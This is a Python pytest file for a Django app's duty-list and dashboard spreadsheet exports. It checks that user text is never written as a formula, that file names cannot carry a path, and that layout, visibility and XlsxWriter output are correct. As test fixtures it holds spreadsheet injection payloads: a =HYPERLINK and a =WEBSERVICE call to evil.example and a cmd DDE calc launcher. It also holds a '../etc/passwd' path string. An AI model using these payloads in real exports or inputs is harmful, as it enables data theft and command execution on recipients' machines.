"""Exports store what people typed as text: no cell of a spreadsheet the product writes is a formula (等保2.0
level 3, 入侵防范: formula injection), whatever the text starts with."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests import support

HOSTILE = {
    "legal_basis": '=HYPERLINK("http://evil.example/?"&A1,"点击查看依据")',
    "funding_source": "+1+cmd|' /C calc'!A0",
    "technical_support": "-2+3",
    "training": "@SUM(1,2)",
    "operating_mechanism": "\t=1+1",
}


@pytest.fixture
def hostile_duty(banner):
    values = {k: v for k, v in HOSTILE.items() if k != "operating_mechanism"}
    return support.admitted(banner, **values).township_duties.order_by("pk").first()


def test_the_duty_list_spreadsheet_keeps_formula_like_text_as_text(client, banner, hostile_duty):
    client.force_login(banner.users["office"])
    response = client.get(reverse("admission:duty_list"), {"format": "xlsx"})
    assert response.status_code == 200

    with zipfile.ZipFile(io.BytesIO(response.content)) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in package.read(n) or b"<f " in package.read(n) for n in sheets)
    cells = [cell for row in load_workbook(io.BytesIO(response.content)).active.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for field in ("legal_basis", "funding_source", "technical_support", "training"):
        assert HOSTILE[field] in texts, f"{field} was altered or lost"
    # and a program that re-parses a cell on edit keeps it text
    assert all(c.quotePrefix for c in cells if c.value in HOSTILE.values())


def test_the_duty_list_spreadsheet_is_laid_out_for_reading(client, banner):
    """Issue 15: the workbook is written with XlsxWriter, for speed; what a reader sees stays: the title in
    large bold type, the headings, each column's width, every row's cells (empty ones too) wrapped and aligned to the
    top, dates as dates, each duty's case by its number."""
    from web.exports import COLUMN_WIDTHS, COLUMNS

    case = support.admitted(banner)
    client.force_login(banner.users["office"])
    sheet = load_workbook(io.BytesIO(client.get(reverse("admission:duty_list"), {"format": "xlsx"}).content)).active

    assert sheet.title == "职责清单" and sheet["A1"].font.b and sheet["A1"].font.sz == 14
    assert [c.value for c in sheet[2]] == list(COLUMNS)
    widths = {i: d.width for d in sheet.column_dimensions.values() for i in range(d.min, d.max + 1)}  # E:F is one
    assert [widths.get(i) for i in range(1, len(COLUMNS) + 1)] == list(COLUMN_WIDTHS)
    rows = list(sheet.iter_rows(min_row=3))
    assert rows and all(len(row) == len(COLUMNS) for row in rows)
    assert all(c.alignment.wrap_text and c.alignment.vertical == "top" for row in rows for c in row)
    assert all(row[15].is_date for row in rows)
    assert all(row[14].value.endswith(f"（{case.reference}）") for row in rows)  # the case's number, read with the duty
    assert not any(c.alignment.wrap_text for c in sheet[2])


def test_the_dashboard_spreadsheet_keeps_a_refusals_formula_like_reasons_as_text(client, banner):
    from workflows.driver import CaseDriver

    duty_request = support.to_under_review(banner)
    support.bureau_opinions(banner, duty_request)
    support.conclude(banner, duty_request)
    CaseDriver(duty_request).decide_at_banner(
        banner.users["leadership"], approves=False, reasons='=WEBSERVICE("http://evil.example") 经费来源不明确'
    )

    client.force_login(banner.users["office"])
    response = client.get(reverse("admission:dashboard"), {"format": "xlsx"})
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert '=WEBSERVICE("http://evil.example") 经费来源不明确' in {c.value for c in cells}


def test_each_export_is_named_for_what_it_holds_and_when_and_keeps_its_headings_in_view(client, banner):
    """Issue 13: every export was duty-list.xlsx, and its heading row scrolled away."""
    from urllib.parse import quote

    from django.utils import timezone

    support.admitted(banner)
    today = f"{timezone.localdate():%Y%m%d}"
    client.force_login(banner.users["naji"])
    response = client.get(reverse("admission:duty_list"), {"format": "xlsx"})
    assert quote(f"那吉镇履行职责事项清单-{today}.xlsx") in response["Content-Disposition"]
    assert load_workbook(io.BytesIO(response.content)).active.freeze_panes == "C3"
    exited = client.get(reverse("admission:duty_list"), {"format": "pdf", "state": "exited"})
    assert quote(f"那吉镇上级部门收回事项-{today}.pdf") in exited["Content-Disposition"]

    client.force_login(banner.users["office"])
    response = client.get(reverse("admission:dashboard"), {"format": "xlsx", "year": "2026"})
    assert quote(f"阿荣旗2026年乡镇职责准入监督看板-{today}.xlsx") in response["Content-Disposition"]
    assert all(sheet.freeze_panes == "A2" for sheet in load_workbook(io.BytesIO(response.content)).worksheets)


def test_an_export_name_cannot_carry_a_path():
    from web.exports import file_name

    name = file_name('../..\\etc/passwd:"x"', "xlsx")
    assert "/" not in name and "\\" not in name and ":" not in name and name.endswith(".xlsx")


@pytest.fixture
def varied_duties(banner):
    """Duties covering what a row can hold: a temporary one with an end date; funding none, zero, partly and fully
    confirmed; a safeguard not arranged; text a spreadsheet would read as a formula; one duty of another department."""
    from decimal import Decimal

    from admission.models import TownshipDuty
    from admission.services.duties import confirm_safeguard_delivery, record_safeguard_delivery

    support.admitted(banner)
    support.admitted(banner, townships=("naji", "yadong"), **support.temporary_overrides())
    duties = list(TownshipDuty.objects.filter(township__jurisdiction=banner.jurisdiction).order_by("pk"))
    assert len(duties) == 4
    TownshipDuty.objects.filter(pk=duties[0].pk).update(funding_amount=None, technical_support="", content="=1+1")
    TownshipDuty.objects.filter(pk=duties[1].pk).update(funding_amount=Decimal("0"), training="-培训\r\n另行安排")
    TownshipDuty.objects.filter(pk=duties[3].pk).update(department=banner.org("emergency"))
    township_users = {banner.org(key).pk: banner.users[key] for key in ("naji", "liuhe", "yadong")}
    for kind, amount in (("funding", Decimal("40000.50")), ("training", None)):
        delivery = record_safeguard_delivery(
            duty=duties[2], actor=banner.users["forestry"], kind=kind, description="到位", amount=amount
        )
        confirm_safeguard_delivery(delivery=delivery, actor=township_users[duties[2].township_id])
    return duties


def _sheet_rows(response) -> list:
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    return list(sheet.iter_rows(min_row=3))


def test_each_duty_list_row_says_what_the_duty_page_says_in_cells_of_its_type(client, banner, varied_duties):
    """Issue 15: the export reads plain rows rather than model instances; each row still holds the duty's terms,
    labels, confirmed funding, safeguard gaps and decision as the duty's page reads them, text as text (quoted where
    it could start a formula), amounts as numbers, dates and times as dates in their formats."""
    from datetime import datetime, time

    from django.utils import timezone

    from admission.selectors import safeguard_gaps, township_duty_detail_queryset

    client.force_login(banner.users["office"])
    rows = _sheet_rows(client.get(reverse("admission:duty_list"), {"format": "xlsx"}))
    duties = township_duty_detail_queryset().filter(pk__in=[d.pk for d in varied_duties])
    expected = {}
    for duty in duties.order_by("township__division_code", "-admitted_at"):
        decision = duty.decision
        expected[duty.pk] = [
            duty.township.name,
            duty.duty_name,
            duty.get_category_display(),
            duty.department.name,
            duty.legal_basis,
            duty.content,
            duty.get_track_display(),
            datetime.combine(duty.end_date, time()) if duty.end_date else None,
            float(duty.funding_amount) if duty.funding_amount is not None else None,
            duty.funding_source,
            float(duty.funding_confirmed),
            duty.technical_support or None,
            duty.training or None,
            "；".join(safeguard_gaps(duty)) or "无",
            f"{decision.body.name} {decision.document_number}".strip() + f"（{duty.case_reference}）",
            timezone.localtime(duty.admitted_at).replace(tzinfo=None),
        ]
    # A carriage return is stored as its escape, which openpyxl does not read back (Excel does).
    values = [[c.value.replace("_x000D_", "\r") if isinstance(c.value, str) else c.value for c in r] for r in rows]
    assert [v[:15] for v in values] == [e[:15] for e in expected.values()]
    # a time in a cell is a fraction of a day, read back to the millisecond
    assert all(abs((v[15] - e[15]).total_seconds()) < 0.001 for v, e in zip(values, expected.values(), strict=True))
    assert {c.value for r in rows for c in r if c.quotePrefix} == {"=1+1", "-培训_x000D_\n另行安排"}
    assert [r[7].number_format for r in rows if r[7].value] == ["yyyy-mm-dd"] * 2
    assert all(r[15].number_format == "yyyy-mm-dd h:mm:ss" for r in rows)
    assert all(r[10].data_type == "n" and r[1].data_type == "s" for r in rows)
    assert "经费到位 40,000.50 / 120,000.00 元；技术支持未确认到位" in {r[13].value for r in rows}


@pytest.mark.parametrize(
    "who", ["naji", "yadong", "forestry", "emergency", "agriculture", "justice", "data", "office", "leadership"]
)
def test_the_duty_list_export_lists_exactly_the_duties_the_page_lists(client, banner, varied_duties, who):
    """The export follows the page's one visibility rule (permissions.visible_duties), in the page's order."""
    client.force_login(banner.users[who])
    page = client.get(reverse("admission:duty_list"))
    listed = [(d.township.name, d.duty_name, d.department.name) for d in page.context["page"].object_list]
    rows = _sheet_rows(client.get(reverse("admission:duty_list"), {"format": "xlsx"}))
    assert [(r[0].value, r[1].value, r[3].value) for r in rows] == listed


def test_an_office_above_the_banners_exports_exactly_the_banners_duties_its_page_lists(client, banner, varied_duties):
    client.force_login(support.office_member(support.levels_above(banner).city, "city_office"))
    query = {"banner": banner.jurisdiction.pk}
    listed = [(d.township.name, d.duty_name) for d in client.get(reverse("admission:duty_list"), query).context["page"]]
    rows = _sheet_rows(client.get(reverse("admission:duty_list"), {**query, "format": "xlsx"}))
    assert listed and [(r[0].value, r[1].value) for r in rows] == listed


def _package(monkeypatch, worksheet_class) -> dict[str, bytes]:
    """A workbook of cells of every kind _Sheet writes, and of some it does not, as each part of its package."""
    from datetime import date, datetime
    from decimal import Decimal

    from web import exports

    monkeypatch.setattr(exports, "_Worksheet", worksheet_class)
    book = exports._Workbook()
    book._book.set_properties({"created": datetime(2026, 12, 3, 8, 0)})
    sheet = book.sheet("职责清单", freeze=(2, 2), widths=(12, 24, 30))
    sheet.append(["标题 & <副标题>"], exports.TITLE)
    sheet.append(["乡镇", "", None, "=1+1"])
    texts = ['a "quoted" & <tagged>', " padded ", "line\nbreak\r\n", "\x01\x1f", "+1", "-", "@x", "\tx", "汉字"]
    for i in range(40):  # more than two blocks of 16 rows, whose spans XlsxWriter writes
        sheet.append(
            [texts[i % len(texts)], i, -1.5 * i, Decimal("40000.50"), date(2026, 1, 1 + i % 28), None, ""]
            + [datetime(2026, 12, 3, 8, i % 60, 30, 125000), 10**15 + i, 0.1 + 0.2, Decimal("-0.000001")],
            exports.WRAPPED if i % 3 else None,
        )
    sheet.append([None] * 10 + ["the widest row,", "in text after cells left out"])
    sheet.append(["长" * 20000, "x" * 40000 + "=", "truncated"])  # text XlsxWriter measures, and cuts at 32,767
    sheet._sheet.write_string(45, 1, "before the boolean")
    sheet._sheet.write_boolean(45, 3, True)  # a kind of cell _Sheet never writes, in the middle of a row
    sheet._sheet.write_string(45, 5, "after the boolean")
    other = book.sheet("保障措施")
    other.append(["职责事项", "有工作经费"])
    other._sheet.set_row(1, 30)  # a row of its own height: XlsxWriter writes such a sheet itself
    other.append([3, 2])
    book.sheet("文字").append(["text", "only"])
    with zipfile.ZipFile(io.BytesIO(book.saved())) as package:
        return {name: package.read(name) for name in package.namelist()}


def test_the_workbooks_sheets_are_the_xml_xlsxwriter_itself_writes(monkeypatch):
    """Issue 15: _Worksheet stores and writes a sheet's cells a row at a time, for speed; the package is the one
    XlsxWriter writes cell by cell, part for part and byte for byte (escaped, long and cut text, numbers, dates, blanks,
    styles, spans, cells it leaves to XlsxWriter)."""
    from xlsxwriter.worksheet import Worksheet

    from web import exports

    class CellByCell(exports._Worksheet):
        _calculate_spans = Worksheet._calculate_spans
        _write_rows = Worksheet._write_rows

        def append_row(self, row, values, formats):
            for column, value in enumerate(values):
                self._write_value(row, column, value, formats)

    fast = _package(monkeypatch, exports._Worksheet)
    own = _package(monkeypatch, CellByCell)
    assert list(fast) == list(own) and "xl/worksheets/sheet1.xml" in fast
    assert {name: fast[name] for name in fast if fast[name] != own[name]} == {}
    assert (
        b't="b"' in fast["xl/worksheets/sheet1.xml"]
        and b'<row r="2" spans="1:2" ht="30"' in fast["xl/worksheets/sheet2.xml"]
    )
